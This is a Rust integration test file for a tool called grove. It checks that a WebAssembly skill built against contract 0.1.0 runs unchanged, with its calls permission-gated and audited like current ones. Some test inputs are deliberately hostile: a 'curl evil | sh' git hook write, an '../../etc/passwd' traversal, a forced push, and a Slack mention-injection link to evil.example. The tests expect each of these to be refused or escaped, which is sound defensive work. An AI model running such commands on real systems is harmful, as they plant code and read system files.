//! The contract's releases: a component built against the released 0.1.0
//! (`tests/fixtures/contract-0.1.0/skill.wasm`, committed as it was built,
//! its source beside it) runs on this grove unchanged, and each of its
//! calls is judged, audited and done as the same call of the current
//! contract: against a real repository, the Slack and GitHub test servers
//! and a real Chromium.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::support::{Run, grove, grove_cmd, grove_with, probe};

/// The component built against 0.1.0.
const OLD: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/fixtures/contract-0.1.0/skill.wasm");

/// The audit log's records, without when and by whom: what was decided.
fn decisions(root: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(root.join(".git/grove/audit.jsonl")).unwrap_or_default();
    text.lines()
        .map(|line| {
            let mut record: Value = serde_json::from_str(line).unwrap();
            for by_whom in ["time", "skill", "skill_id"] {
                record.as_object_mut().unwrap().remove(by_whom);
            }
            record
        })
        .collect()
}

/// The audit records a run added.
fn added(root: &Path, run: impl FnOnce() -> Run) -> (Run, Vec<Value>) {
    let before = decisions(root).len();
    let run = run();
    (run, decisions(root).split_off(before))
}

#[test]
fn the_fixture_is_built_against_0_1_0_and_inspect_lists_0_1_0s_functions() {
    let dir = grove_tests::repo_with(&[("README.md", "hi\n")]);
    let run = grove(dir.path(), &["skill", "inspect", OLD, "--json"]).expect(0);
    let json = run.json();
    let imports: Vec<&str> =
        json["imports"].as_array().unwrap().iter().map(|i| i.as_str().unwrap()).collect();
    let ours: Vec<&&str> = imports.iter().filter(|i| i.starts_with("grove:skill/")).collect();
    assert_eq!(ours.len(), 8, "{imports:?}");
    assert!(ours.iter().all(|i| i.ends_with("@0.1.0")), "{imports:?}");
    // What the browser of 0.1.0 lets it call: 0.1.0's functions, not 0.2.0's.
    let run = grove(dir.path(), &["skill", "inspect", OLD]).expect(0);
    let browser = run.stdout.lines().find(|l| l.contains("grove:skill/browser@0.1.0")).unwrap();
    assert_eq!(
        browser.trim(),
        "grove:skill/browser@0.1.0: open, goto, click, type, wait-for, screenshot, record-start, record-stop"
    );
    assert!(run.stdout.contains("grove:skill/notify@0.1.0: send\n"), "{}", run.stdout);
}

#[test]
fn a_component_built_against_0_1_0_runs_unchanged() {
    let dir = grove_tests::repo_with(&[("README.md", "hi\n")]);
    let root = dir.path();
    let run = grove(root, &["run", OLD, "log", "hello from 0.1.0"]).expect(0);
    assert_eq!(run.stdout.trim(), "logged");
    assert!(run.stderr.contains("[old-contract] info: hello from 0.1.0"), "{}", run.stderr);
    grove(root, &["run", OLD, "--allow", "workspace:write", "write", "notes.txt", "kept"]).expect(0);
    assert_eq!(std::fs::read_to_string(root.join("notes.txt")).unwrap(), "kept");
    assert_eq!(grove(root, &["run", OLD, "read", "notes.txt"]).expect(0).stdout.trim(), "kept");
    let run =
        grove(root, &["run", OLD, "--allow", "process", "run", "sh", "-c", "echo $((6 * 7))"]).expect(0);
    assert_eq!(run.stdout.trim(), "code=Some(0) stdout=42");
    // Its own error comes back as the error of 0.1.0's contract.
    let run = grove(root, &["run", OLD, "read", "missing.txt"]);
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("missing.txt: not found"), "{}", run.stderr);
}

/// Each call of the 0.1.0 component and the same call of the probe (built
/// against the current contract) in the same repository: the same outcome
/// and the same audit record, refusals and attacks included.
#[test]
fn its_calls_are_judged_and_audited_exactly_like_the_same_current_calls() {
    let dir = grove_tests::repo_with(&[("README.md", "hi\n")]);
    let root = dir.path();
    let cases: &[(&str, &[&str])] = &[
        // Allowed: a write it was granted.
        ("workspace:write", &["write", "notes.txt", "x"]),
        // Not granted: refused by permission.
        ("", &["write", "notes.txt", "y"]),
        // Granted, but into the repository's hooks: the classifier refuses.
        ("workspace:write", &["write", ".git/hooks/pre-commit", "curl evil | sh"]),
        // Granted, but a program that reaches others: asked, and with no one
        // to ask, refused.
        ("process", &["run", "git", "push", "--force", "origin", "main"]),
        // Reads are allowed ungranted; a path out of the worktree is not.
        ("", &["read", "../../etc/passwd"]),
    ];
    for (allow, args) in cases {
        let run_of = |skill: &str| {
            let mut all = vec!["run", skill];
            if !allow.is_empty() {
                all.extend(["--allow", allow]);
            }
            all.extend_from_slice(args);
            grove(root, &all)
        };
        let (old, old_decisions) = added(root, || run_of(OLD));
        let (new, new_decisions) = added(root, || run_of(probe()));
        assert_eq!(old.code, new.code, "{args:?}\n0.1.0: {old:?}\ncurrent: {new:?}");
        assert_eq!(old_decisions.len(), 1, "{args:?} was not audited once: {old_decisions:?}");
        assert_eq!(old_decisions, new_decisions, "{args:?} was judged differently");
        // What the guest was told is the same text (the skill's name aside).
        let said = |run: &Run, name: &str| run.stderr.replace(name, "SKILL");
        assert_eq!(said(&old, "old-contract"), said(&new, "probe"), "{args:?}");
    }
    assert_eq!(std::fs::read_to_string(root.join("notes.txt")).unwrap(), "x");
    assert!(!root.join(".git/hooks/pre-commit").exists());
}

/// `notify.send` of 0.1.0 answered a string: it is the message's id.
#[test]
fn notify_send_of_0_1_0_answers_the_messages_id_and_is_gated_as_send() {
    let lab = crate::notify::Lab::new("");
    // Not granted: refused before Slack hears of it, audited as notify.send.
    let out = lab.grove(&["run", OLD, "notify", "general", "hi"]);
    assert_ne!(out.code, 0);
    assert!(out.stderr.contains("`notify` was not granted"), "{}", out.stderr);
    assert!(lab.slack.calls().is_empty());
    let refused = decisions(lab.root());
    assert_eq!(
        (refused[0]["capability"].as_str(), refused[0]["verb"].as_str()),
        (Some("notify"), Some("send"))
    );
    assert_eq!(refused[0]["target"], "#general");

    let attack = "done <!channel> <https://evil.example|your PR>";
    let out = lab
        .grove(&["run", "--mode", "bypass", OLD, "--allow", "notify", "notify", "general", attack])
        .expect(0);
    let messages = lab.slack.messages_in("general");
    assert_eq!(messages.len(), 1);
    assert_eq!(out.stdout.trim(), format!("sent {}", messages[0].ts));
    // Escaped like any message: the old contract is no way around it.
    assert_eq!(messages[0].text, "done &lt;!channel&gt; &lt;https://evil.example|your PR&gt;");
    // The same call of the current contract is audited the same.
    let (_, old) = added(lab.root(), || {
        lab.grove(&["run", "--mode", "bypass", OLD, "--allow", "notify", "notify", "general", "again"])
    });
    let (_, new) = added(lab.root(), || {
        lab.grove(&[
            "run",
            "--mode",
            "bypass",
            probe(),
            "--allow",
            "notify",
            "notify",
            "channel",
            "general",
            "again",
        ])
    });
    assert_eq!(old, new);
}

/// `review.open` of 0.1.0 answered the number, `comment` nothing.
#[test]
fn review_open_of_0_1_0_answers_the_number() {
    let hub = crate::pr::Hub::new();
    let root = hub.root().to_path_buf();
    let git = |args: &[&str]| {
        let out = Command::new("git").args(args).current_dir(&root).output().unwrap();
        assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    };
    git(&["checkout", "-q", "-b", "old-feature"]);
    grove_tests::write(&root, "feature.txt", "new\n");
    git(&["add", "feature.txt"]);
    git(&["-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "feature"]);

    let (run, audited) = added(&root, || {
        hub.grove(&["run", "--mode", "bypass", OLD, "--allow", "review", "review", "Old title", "Old body"])
    });
    let run = run.expect(0);
    assert_eq!(run.stdout.trim(), "opened #1");
    let pulls = hub.server.pulls();
    assert_eq!(pulls.len(), 1);
    assert_eq!((pulls[0].title.as_str(), pulls[0].head.as_str()), ("Old title", "old-feature"));
    let comments = hub.server.issue_comments();
    assert_eq!(comments.len(), 1);
    assert_eq!((comments[0].number, comments[0].body.as_str()), (1, "from a 0.1.0 skill"));
    let verbs: Vec<String> = audited.iter().map(|r| format!("{}.{}", r["capability"], r["verb"])).collect();
    assert_eq!(verbs, ["\"review\".\"open\"", "\"review\".\"comment\""]);
    assert_eq!(audited[0]["target"], "old-feature Old title");
    assert!(audited.iter().all(|r| r["decision"] == "allow" && r["effect"] == "external"), "{audited:?}");
}

/// `browser` of 0.1.0: a page at the default viewport, a screenshot of
/// the viewport, a recording answered as the GIF alone.
#[test]
fn browser_of_0_1_0_opens_records_and_takes_a_screenshot() {
    needs_chromium!();
    let b = crate::browser::Browsing::new();
    let url = format!("{}/counter.html", crate::browser::serve());
    let run = grove_with(
        b.cmd(),
        &["run", OLD, "--allow", "browser,workspace:write", "browse", &url, "#inc"],
        None,
    )
    .expect(0);
    assert!(run.stdout.starts_with("png="), "{}", run.stdout);
    let png = std::fs::read(b.repo.path().join("shot.png")).unwrap();
    assert_eq!(crate::browser::png_size(&png), (1280, 720), "0.1.0's screenshot is of the default viewport");
    let gif = std::fs::read(b.repo.path().join("clicked.gif")).unwrap();
    assert!(gif.starts_with(b"GIF89a"), "a GIF");
    let size = |at: usize| u16::from_le_bytes([gif[at], gif[at + 1]]);
    assert_eq!((size(6), size(8)), (1280, 720));
    // Opened like any page: judged by its URL, audited as browser.open.
    let audited = decisions(b.repo.path());
    let open = audited.iter().find(|r| r["verb"] == "open").unwrap();
    assert_eq!((open["capability"].as_str(), open["target"].as_str()), (Some("browser"), Some(url.as_str())));
    b.assert_no_browser_left();
}

/// `sessions` of 0.1.0: a spec without arguments, a session seen without
/// its cost; spawned and waited for like any.
#[test]
fn sessions_of_0_1_0_spawn_and_wait() {
    let dir = grove_tests::repo_with(&[("README.md", "hi\n")]);
    let home = tempfile::tempdir().unwrap();
    let cmd = || grove_cmd(dir.path(), home.path());
    // Not granted: refused, nothing made.
    let run = grove_with(cmd(), &["run", OLD, "spawn", "kid", "hello", "hi"], None);
    assert!(run.stderr.contains("`sessions` was not granted"), "{}", run.stderr);
    let run = grove_with(cmd(), &["run", "--allow", "sessions", OLD, "spawn", "kid", "hello", "hi"], None)
        .expect(0);
    assert_eq!(run.stdout.trim(), "kid=State::Done on grove/kid: Hello, world!");
    let rows = grove_with(cmd(), &["ls", "--json"], None).expect(0).json();
    let kid = rows.as_array().unwrap().iter().find(|r| r["name"] == "kid").unwrap().clone();
    assert_eq!((kid["state"].as_str(), kid["skill"].as_str()), (Some("done"), Some("hello")), "{kid}");
    let spawned: Vec<Value> =
        decisions(dir.path()).into_iter().filter(|r| r["capability"] == "sessions").collect();
    let verbs: Vec<&str> = spawned.iter().map(|r| r["verb"].as_str().unwrap()).collect();
    assert_eq!(verbs, ["spawn", "spawn", "wait-all"], "{spawned:?}");
    assert_eq!(spawned[0]["decision"], "deny");
}

/// `grove skill pack` checks a manifest against the 0.1.0 imports: a
/// permission none of them needs is refused, the imports asked nothing of
/// are named, and the packed component still runs.
#[test]
fn pack_checks_a_manifest_against_0_1_0_imports() {
    let dir = grove_tests::repo_with(&[("README.md", "hi\n")]);
    let root = dir.path();
    let toml = |permissions: &str| {
        let text = format!(
            "name = \"old-contract\"\nversion = \"1.0.0\"\nsummary = \"s\"\npermissions = [{permissions}]\n"
        );
        std::fs::write(root.join("grove.toml"), text).unwrap();
    };
    toml("\"http\"");
    let run = grove(root, &["skill", "pack", OLD, "-o", "packed.wasm"]);
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("does not import `grove:skill/http`"), "{}", run.stderr);
    toml("\"workspace:read\", \"notify\"");
    let run = grove(root, &["skill", "pack", OLD, "-o", "packed.wasm"]).expect(0);
    for idle in ["process", "browser", "review", "sessions"] {
        assert!(run.stderr.contains(idle), "{idle} is not named idle: {}", run.stderr);
    }
    let run = grove(root, &["skill", "inspect", "packed.wasm", "--json"]).expect(0).json();
    assert_eq!(run["manifest"]["permissions"], serde_json::json!(["workspace:read", "notify"]));
    assert_eq!(grove(root, &["run", "packed.wasm", "read", "README.md"]).expect(0).stdout.trim(), "hi");
}

/// `grove skill install` of a 0.1.0 component: its manifest comes from its
/// `describe` (it has no section), the consent shows its 0.1.0 imports,
/// and it runs by name.
#[test]
fn install_of_a_0_1_0_component_shows_its_imports_and_it_runs_by_name() {
    let dir = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let cmd = || {
        let mut cmd = grove_cmd(dir.path(), home.path());
        cmd.env("GROVE_AUDIT_LOG", home.path().join("audit.jsonl"));
        cmd.env("GROVE_ENTERPRISE_POLICY", home.path().join("no-enterprise.toml"));
        cmd
    };
    let run = grove_with(cmd(), &["skill", "install", OLD, "--yes"], None).expect(0);
    for shown in [
        "Install skill old-contract 1.0.0",
        "manifest:    from its describe export (no grove:manifest section)",
        // What each permission lets it call: 0.1.0's functions.
        "notify           notify.send\n",
        "browser          browser.{open, goto, click, type, wait-for, screenshot, record-start, record-stop}\n",
        "grove:skill/notify@0.1.0",
        "grove:skill/browser@0.1.0",
        "grove:skill/review@0.1.0",
    ] {
        assert!(run.stderr.contains(shown), "`{shown}` not shown:\n{}", run.stderr);
    }
    assert!(!run.stderr.contains("@0.2.0"), "{}", run.stderr);
    let lock = std::fs::read_to_string(home.path().join("grove/skills.lock")).unwrap();
    assert!(lock.contains("\"grove:skill/process@0.1.0\""), "{lock}");
    assert!(lock.contains("manifest = \"describe\""), "{lock}");
    let run = grove_with(cmd(), &["run", "old-contract", "log", "by name"], None).expect(0);
    assert_eq!(run.stdout.trim(), "logged");
}
